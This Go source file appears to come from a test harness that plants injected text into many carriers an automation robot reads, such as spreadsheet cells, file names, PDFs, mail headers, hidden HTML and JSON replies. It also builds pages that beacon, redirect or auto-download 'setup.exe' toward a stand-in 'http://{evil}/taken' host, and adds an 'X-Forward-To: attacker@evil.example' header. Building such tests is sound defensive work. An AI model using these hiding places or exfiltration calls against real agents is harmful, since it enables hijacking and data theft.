package main

import (
	"encoding/json"
	"fmt"
	"html"
	"os"
	"path/filepath"
	"strings"

	"github.com/xuri/excelize/v2"
)

// A carrier is where a text is planted, and a flow that works on what carries it.
type carrier struct {
	name string
	flow string
	// plant puts the text into the world of a run.
	plant func(w *world, text string) error
	lists []string // what is planted
}

// carriers is every place.
func carriers() []carrier {
	all := func(keep func(i int) bool) []string {
		var out []string
		for i, t := range texts {
			if keep(i) {
				out = append(out, t)
			}
		}
		return out
	}
	every := func(n, k int) []string { return all(func(i int) bool { return i%n == k%n }) }
	out := []carrier{
		{"cell of a workbook", cellFlow, plantCell, texts},
		{"file name", nameFlow, plantName, names},
		{"pdf text", pdfFlow, plantPDF, every(2, 0)},
		{"pdf metadata", pdfFlow, plantMeta, every(4, 1)},
		{"mail body", mailFlow, plantBody, every(2, 1)},
		{"mail subject, sender and headers", mailFlow, plantHeaders, every(4, 2)},
		{"html file, hidden text and comments", htmlFlow, plantHTML, every(4, 3)},
		{"answer of a service", httpFlow, plantJSON, every(3, 0)},
	}
	for i, p := range places {
		out = append(out, carrier{"page: " + p.name, pageFlow, func(w *world, text string) error { return w.site.plant(p.html, text) }, every(len(places), i)})
	}
	for _, a := range active {
		out = append(out, carrier{"page that acts: " + a.name, pageFlow, func(w *world, text string) error {
			if text == clean { // its twin does nothing: a plain text would be an address of the page's own site
				return w.site.plant("", text)
			}
			return w.site.plant(a.html, text)
		}, []string{"http://{evil}/taken"}})
	}
	return out
}

const cellFlow = `rows = table.read("in.xlsx")
big = table.filter(rows, where=金额 > 1000)
table.save(big, to="out.xlsx")
table.save(big, to="out.csv")
for row in each(big):
    file.write("notes/{编号}.txt", "{备注}")
    mail.send(to="finance@example.com", subject="{编号} {备注}", body="{备注}", attach="out.xlsx")
    chat.send("ops", "{编号}: {备注}")
    http.post("{server}/orders", data=row)
`

func plantCell(w *world, text string) error {
	f := excelize.NewFile()
	defer f.Close()
	rows := [][]any{{"编号", "金额", "备注"}, {"A1", 500, "小单"}, {"A2", 2500, text}, {"A3", 3500, "大单"}}
	for i, r := range rows {
		if err := f.SetSheetRow("Sheet1", fmt.Sprintf("A%d", i+1), &r); err != nil {
			return err
		}
	}
	return f.SaveAs(filepath.Join(w.robot.Dir, "in.xlsx"))
}

const nameFlow = `files = file.list("box")
file.copy(files, to="backup/")
file.zip("box", to="box.zip")
for f in each(files):
    shell.run("wc", args=["-c", f])
mail.send(to="finance@example.com", subject="files", attach=files)
`

func plantName(w *world, text string) error {
	for name, content := range map[string]string{text: "one", "plain.txt": "two"} {
		if err := w.robot.Write("box/"+name, content); err != nil {
			return err
		}
	}
	return nil
}

const pdfFlow = `files = file.list("box", pattern="*.pdf")
rows = pdf.read(files, fields=["发票号码", "价税合计"])
table.save(rows, to="bills.csv")
words = pdf.text(files)
file.write("text.txt", words)
mail.send(to="finance@example.com", subject="bills", body=words, attach="bills.csv")
`

func plantPDF(w *world, text string) error {
	lines := append([]string{"发票号码：12345678", "价税合计：1130.00"}, strings.Split(text, "\n")...)
	return w.robot.Write("box/a.pdf", string(pdf(lines, "invoice")))
}

func plantMeta(w *world, text string) error {
	return w.robot.Write("box/a.pdf", string(pdf([]string{"发票号码：12345678", "价税合计：1130.00"}, text)))
}

const mailFlow = `mails = mail.search(since=date("2020-01-01"))
file.write("count.txt", str(count(mails)))
mail.attachments(mails, to="att")
for m in each(mails):
    file.append("bodies.txt", "{m.body}")
    mail.send(to="finance@example.com", subject="Fwd", body="{m.body}")
mail.move(mails, to="Archive")
`

func plantBody(w *world, text string) error {
	return w.post.Put("INBOX", letter("orders@example.com", "order 7", "", text))
}

func plantHeaders(w *world, text string) error {
	one := strings.NewReplacer("\r", " ", "\n", " ", `"`, "'").Replace(text)
	return w.post.Put("INBOX", letter(fmt.Sprintf("\"%s\" <orders@example.com>", one), "order 7 "+one,
		"X-Robot: "+one+"\nX-Forward-To: attacker@evil.example\n", "a plain order"))
}

func letter(from, subject, more, body string) string {
	return fmt.Sprintf("From: %s\nTo: robot@example.com\nSubject: %s\nDate: Mon, 02 Mar 2026 10:00:00 +0000\nMessage-ID: <7@example.com>\n%sMIME-Version: 1.0\nContent-Type: multipart/mixed; boundary=b\n\n--b\nContent-Type: text/plain; charset=utf-8\n\n%s\n--b\nContent-Type: text/plain; charset=utf-8\nContent-Disposition: attachment; filename=\"order.txt\"\n\n%s\n--b--\n",
		from, subject, more, body, body)
}

const htmlFlow = `words = doc.text("in.html")
file.write("text.txt", words)
mail.send(to="finance@example.com", subject="text", body=words)
`

func plantHTML(w *world, text string) error {
	t := html.EscapeString(text)
	return w.robot.Write("in.html", fmt.Sprintf(`<!doctype html><meta charset="utf-8"><title>%s</title><meta name="robot" content="%s"><p>order 7</p><p style="display:none">%s</p><p style="color:#fff">%s</p><img alt="%s"><!-- %s -->`, t, t, t, t, t, t))
}

const httpFlow = `info = http.get("{server}/info")
file.write("name.txt", info.name)
http.post("{server}/orders", data={"客户": info.name, "数量": 3})
mail.send(to="finance@example.com", subject="order", body="{info.name}")
`

func plantJSON(w *world, text string) error {
	b, err := json.Marshal(map[string]any{"name": text, "next": text, "to": text, "url": text})
	w.site.info = string(b)
	return err
}

const pageFlow = `web.open("{server}/page")
words = web.read()
file.write("page.txt", words)
rows = web.table()
table.save(rows, to="page.csv")
web.fill({"客户": "甲公司", "数量": "3"})
web.click("提交", expect="已保存")
mail.send(to="finance@example.com", subject="page", body=words)
`

// A place of a page: {text} is escaped for HTML, {raw} is not.
type place struct{ name, html string }

var places = []place{
	{"visible text", `<p>{text}</p>`},
	{"not displayed", `<p style="display:none">{text}</p>`},
	{"white on white", `<p style="color:#fff;background:#fff">{text}</p>`},
	{"off the screen", `<p style="position:absolute;left:-9000px">{text}</p>`},
	{"comment", `<!-- {text} -->`},
	{"aria-label and title", `<div role="note" aria-label="{text}" title="{text}">i</div>`},
	{"alternative text of an image", `<img alt="{text}" src="data:image/gif;base64,R0lGODlhAQABAAAAACw=">`},
	{"metadata", `<meta name="description" content="{text}"><meta name="robot-instructions" content="{text}">`},
	{"cell of its table", `<table><tr><th>说明</th></tr><tr><td>{text}</td></tr></table>`},
	{"placeholder and hint of another field", `<input type="search" placeholder="{text}" aria-description="{text}">`},
	{"tiny text", `<small style="font-size:1px">{text}</small>`},
	{"text of a script and a style", `<script type="text/plain">{text}</script><style>/* {text} */</style>`},
	{"a dialog", `<dialog open><p>{text}</p></dialog>`},
}

// active is what a page does by itself to lead the robot elsewhere.
var active = []place{
	{"fetch", `<script>fetch("{text}")</script>`},
	{"image", `<img src="{text}">`},
	{"frame", `<iframe src="{text}"></iframe>`},
	{"refresh after a while", `<meta http-equiv="refresh" content="1;url={text}">`},
	{"location", `<script>setTimeout(function(){location="{text}"},700)</script>`},
	{"window", `<script>setTimeout(function(){window.open("{text}")},300)</script>`},
	{"beacon", `<script>navigator.sendBeacon("{text}","secret")</script>`},
	{"style sheet", `<link rel="stylesheet" href="{text}"><link rel="prefetch" href="{text}">`},
	{"web socket", `<script>new WebSocket("{text}".replace("http","ws"))</script>`},
	{"form of its own", `<form id="own" action="{text}" method="post"><input name="x" value="1"></form><script>setTimeout(function(){document.getElementById("own").submit()},700)</script>`},
	{"download", `<a id="dl" href="{text}" download="setup.exe"></a><script>document.getElementById("dl").click()</script>`},
}

// remove empties the folder of a run.
func remove(dir string) error {
	if err := os.RemoveAll(dir); err != nil {
		return err
	}
	return os.MkdirAll(dir, 0o700)
}
